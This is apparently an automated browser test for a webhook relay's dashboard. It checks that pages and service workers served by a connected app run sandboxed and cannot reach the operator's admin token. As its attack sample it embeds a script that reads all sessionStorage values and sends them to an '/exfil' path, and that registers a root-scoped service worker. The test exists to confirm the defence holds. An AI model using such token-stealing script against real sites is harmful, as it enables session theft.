/**
 * Nothing an internal app (or a webhook sender) controls runs in the dashboard's origin. A
 * sync channel's app answers with a script-bearing page and a service worker script, the way
 * a reflected-XSS bug or a compromised app would; in Chromium, with the operator logged in to
 * the dashboard in the same tab, the page runs no script and has an opaque origin, the worker
 * cannot be registered, and the admin token is never read.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { startApp } from '../helpers/app.ts';
import { launchChromium } from '../helpers/browser.ts';
import { eventually, pairAgent, removeDir, startAgent, startRelay } from '../helpers/processes.ts';

test(
  'a sync app page and service worker never run with the relay origin',
  { timeout: 90_000 },
  async (t) => {
    const relay = await startRelay();
    t.after(async () => {
      await relay.stop();
      await removeDir(relay.dataDir);
    });
    const channel = await relay.api<{ id: string }>('POST', '/api/channels', {
      name: 'hooks',
      response: { mode: 'sync', timeoutMs: 10_000 },
    });
    const base = `/h/${channel.id}`;
    const page = `<!doctype html><title>app page</title><script>
document.title = 'script ran';
const token = Object.keys(sessionStorage).map((k) => sessionStorage.getItem(k)).join(',');
fetch('${base}/exfil?t=' + encodeURIComponent(token));
navigator.serviceWorker.register('${base}/sw.js', { scope: '/' })
  .then(() => fetch('${base}/sw-registered'), (e) => fetch('${base}/sw-refused?e=' + e.name));
</script>`;
    const app = await startApp((req, res) => {
      if (req.url.startsWith('/app/page')) {
        res.setHeader('content-type', 'text/html; charset=utf-8');
        res.setHeader('service-worker-allowed', '/');
        res.end(page);
      } else if (req.url.startsWith('/app/sw.js')) {
        res.setHeader('content-type', 'text/javascript');
        res.setHeader('service-worker-allowed', '/');
        res.end("self.addEventListener('fetch', (e) => e.respondWith(fetch(e.request)));");
      } else {
        res.end('ok');
      }
    });
    t.after(() => app.close());
    const { stateDir } = await pairAgent(relay, ['hooks'], 'laptop');
    const agent = await startAgent(stateDir, [
      { channel: 'hooks', target: `${app.url}/app`, sync: true },
    ]);
    t.after(async () => {
      await agent.stop();
      await removeDir(stateDir);
    });

    const browser = await launchChromium();
    t.after(() => browser.close());
    const tab = await browser.newPage();
    const consoleLines: string[] = [];
    tab.on('console', (m) => consoleLines.push(m.text()));

    // The operator is logged in: the token is in this tab's sessionStorage.
    await tab.goto(relay.url);
    await tab.getByLabel('Admin token').fill(relay.token);
    await tab.getByRole('button', { name: 'Log in' }).click();
    await tab.getByRole('heading', { name: 'Events', level: 2 }).waitFor();
    assert.equal(await tab.evaluate('sessionStorage.length'), 1);

    // The same tab opens the app's page through the relay (a link in a phishing mail, say).
    const res = await tab.goto(`${relay.url}${base}/page?q=<script>`);
    assert.equal(res?.status(), 200);
    assert.match(res?.headers()['content-security-policy'] ?? '', /^sandbox\b/);
    assert.equal(res?.headers()['service-worker-allowed'], undefined);
    // Chromium says why the script did not run; the page's origin is opaque.
    await eventually(
      () =>
        consoleLines.some((l) => /sandboxed and the 'allow-scripts'/.test(l)) ? true : undefined,
      10_000,
      'Chromium reporting the blocked script',
    );
    assert.equal(await tab.title(), 'app page', 'the script did not run');
    assert.equal(await tab.evaluate('self.origin'), 'null');
    await assert.rejects(tab.evaluate('sessionStorage.length'), /SecurityError|denied|sandboxed/i);

    // Back in the dashboard, even a script of the relay's own origin cannot register the worker.
    await tab.goto(relay.url);
    const registered = await tab.evaluate(
      `navigator.serviceWorker.register('${base}/sw.js', { scope: '/' }).then(() => 'registered', (e) => 'refused: ' + e.message)`,
    );
    assert.match(String(registered), /^refused: .*403/);
    assert.equal(
      await tab.evaluate('navigator.serviceWorker.getRegistrations().then((r) => r.length)'),
      0,
    );
    assert.equal(await tab.evaluate('sessionStorage.length'), 1, 'still logged in');

    // The app saw the page request and nothing the page would have sent.
    const paths = app.received.map((r) => r.url.split('?')[0]);
    assert.deepEqual(paths, ['/app/page']);
  },
);
